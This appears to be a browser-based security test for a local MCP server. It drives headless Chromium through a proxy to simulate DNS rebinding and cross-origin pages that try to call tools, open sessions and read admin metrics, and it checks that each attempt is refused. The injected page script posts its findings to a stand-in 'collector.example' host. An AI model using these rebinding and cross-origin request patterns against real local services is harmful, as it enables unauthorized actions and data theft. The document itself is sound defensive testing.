// Pages in a real browser that try to reach a server on this machine: by a name that is made to lead to it after the
// page was loaded (DNS rebinding), and from another origin. Prints one line for each check.
//
// What DNS would answer is decided here: the browser asks this program as its proxy, which serves the page at first and
// then passes the same name and port on to the server. To the browser it stays one origin, as with a rebound name.
//
// node browser.mjs <chromium> <binary> <mcp> <folder> <admin>

import { spawn } from "node:child_process";
import { once } from "node:events";
import http from "node:http";
import { join } from "node:path";

const [chromium, , mcp, folder, admin] = process.argv.slice(2);
const [mcpPort, adminPort] = [new URL(mcp).port, new URL(admin).port];
const PATIENCE = 60_000;

function report(name, passed, why) {
  console.log(passed ? `ok ${name}` : `FAILED ${name}: ${why}`);
}

const meta = {
  "io.modelcontextprotocol/protocolVersion": "2026-07-28",
  "io.modelcontextprotocol/clientInfo": { name: "page", version: "1" },
  "io.modelcontextprotocol/clientCapabilities": {},
};

function call(name, args) {
  return {
    headers: {
      "content-type": "application/json",
      accept: "application/json, text/event-stream",
      "mcp-protocol-version": "2026-07-28",
      "mcp-method": "tools/call",
      "mcp-name": name,
    },
    body: JSON.stringify({
      jsonrpc: "2.0",
      id: 1,
      method: "tools/call",
      params: { name, arguments: args, _meta: meta },
    }),
  };
}

const note = call("add_note", { text: "stolen by a page" });
const initialize = JSON.stringify({
  jsonrpc: "2.0",
  id: 1,
  method: "initialize",
  params: { protocolVersion: "2025-11-25", capabilities: {}, clientInfo: { name: "page", version: "1" } },
});
const json = { "content-type": "application/json", accept: "application/json, text/event-stream" };

// What pages try: from where, what, and what they may see of it. Requests of one origin are seen in full; of another
// origin only whether there was an answer that may be read.
const rebound = `http://rebind.example:${mcpPort}`;
const reboundAdmin = `http://rebind.example:${adminPort}`;
const elsewhere = "http://elsewhere.example:8000";
const attacks = [
  [rebound, "a call", "/mcp", { method: "POST", ...note }],
  [rebound, "a session", "/mcp", { method: "POST", headers: json, body: initialize }],
  [rebound, "a stream", "/mcp", { headers: { accept: "text/event-stream", "mcp-session-id": "x" } }],
  [rebound, "the end of a session", "/mcp", { method: "DELETE", headers: { "mcp-session-id": "x" } }],
  [rebound, "a surface", "/mcp/0.1.0", { method: "POST", ...note }],
  [reboundAdmin, "metrics", "/metrics", {}],
  [reboundAdmin, "readiness", "/readyz", {}],
  [elsewhere, "a call with CORS", `${mcp}`, { method: "POST", ...note }],
  [elsewhere, "a call as a form", `${mcp}`, { method: "POST", mode: "no-cors", body: note.body }],
  [elsewhere, "metrics of another origin", `${admin}/metrics`, {}],
];

function page(origin) {
  const mine = attacks.map((attack, at) => [at, ...attack]).filter(([, from]) => from === origin);
  return `<!doctype html><script type="module">
    await fetch("/rebind", { method: "POST" });
    const seen = [];
    for (const [at, , , url, request] of ${JSON.stringify(mine)}) {
      try {
        const response = await fetch(url, request);
        seen.push([at, response.type === "opaque" ? "opaque" : response.status]);
      } catch (error) {
        seen.push([at, "unreadable"]);
      }
    }
    await fetch("http://collector.example/", { method: "POST", mode: "no-cors", body: JSON.stringify(seen) });
  </script>`;
}

const seen = new Map();
const leadsHere = new Set([rebound, reboundAdmin, elsewhere]);
let heard;
const all = new Promise((resolve) => (heard = resolve));
let expected = leadsHere.size;

const proxy = http.createServer(async (request, response) => {
  const url = new URL(request.url, "http://none.example");
  const chunks = [];
  for await (const chunk of request) chunks.push(chunk);
  const body = Buffer.concat(chunks);
  if (url.hostname === "collector.example") {
    for (const [at, what] of JSON.parse(body)) seen.set(at, what);
    expected -= 1;
    if (expected === 0) heard();
    response.end();
  } else if (leadsHere.has(url.origin)) {
    if (url.pathname === "/rebind") {
      if (url.origin !== elsewhere) leadsHere.delete(url.origin);
      response.end();
    } else {
      response.setHeader("content-type", "text/html");
      response.end(page(url.origin));
    }
  } else if ([mcpPort, adminPort].includes(url.port)) {
    const options = { host: "127.0.0.1", port: url.port, path: url.pathname, method: request.method };
    const passed = http.request({ ...options, headers: request.headers }, (answer) => {
      response.writeHead(answer.statusCode, answer.headers);
      answer.pipe(response);
    });
    passed.on("error", () => response.destroy());
    passed.end(body);
  } else {
    response.writeHead(404).end();
  }
});
proxy.listen(0, "127.0.0.1");
await once(proxy, "listening");

// What no page may do works without a page, so that a check can fail.
async function notes() {
  const response = await fetch(mcp, { method: "POST", ...call("search_notes", { query: "stolen" }) });
  return (await response.json()).result.structuredContent;
}
const plain = await fetch(`${admin}/metrics`);
report("without a page the admin port answers", plain.status === 200, plain.status);
const before = JSON.stringify(await notes());

const flags = [
  "--headless",
  "--no-sandbox",
  "--disable-gpu",
  "--disable-quic",
  "--no-first-run",
  "--disable-background-networking",
  "--disable-component-update",
  "--disable-sync",
  `--proxy-server=127.0.0.1:${proxy.address().port}`,
  "--proxy-bypass-list=<-loopback>",
];
const browsers = [rebound, reboundAdmin, elsewhere].map((origin, at) =>
  spawn(chromium, [...flags, `--user-data-dir=${join(folder, `browser-${at}`)}`, origin], { stdio: "ignore" }),
);
let timer;
const late = new Promise((resolve) => (timer = setTimeout(resolve, PATIENCE)));
await Promise.race([all, late]);
clearTimeout(timer);
for (const browser of browsers) browser.kill();

attacks.forEach(([origin, what], at) => {
  const may = origin === elsewhere ? ["unreadable", "opaque"] : [403];
  report(`a page gets nothing of: ${what}`, may.includes(seen.get(at)), `it saw ${seen.get(at)}`);
});
const after = JSON.stringify(await notes());
report("nothing was done for a page", before === after, `${before} became ${after}`);
proxy.close();
proxy.closeAllConnections();
